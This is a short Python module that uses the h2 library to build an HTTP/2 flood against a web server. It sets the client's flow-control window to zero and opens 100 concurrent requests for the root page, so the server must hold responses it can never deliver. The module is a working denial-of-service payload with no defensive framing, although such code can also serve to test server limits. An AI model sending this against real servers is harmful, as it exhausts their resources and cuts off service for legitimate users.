"""A stranger's flood by HTTP/2: it asks for the page over and over, and reads nothing of it."""

from __future__ import annotations

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.settings import SettingCodes

STREAMS = 100
"""Requests at once on one connection: no server that is asked nothing permits many more."""


def flood(host: str, scheme: str) -> bytes:
    """All that one connection sends: as many requests as it may, and no room for an answer."""
    http = H2Connection(H2Configuration(client_side=True))
    http.local_settings = type(http.local_settings)(
        initial_values={SettingCodes.INITIAL_WINDOW_SIZE: 0}
    )
    http.initiate_connection()
    head = [(":method", "GET"), (":path", "/"), (":scheme", scheme), (":authority", host)]
    for number in range(STREAMS):
        http.send_headers(2 * number + 1, head, end_stream=True)
    return http.data_to_send()
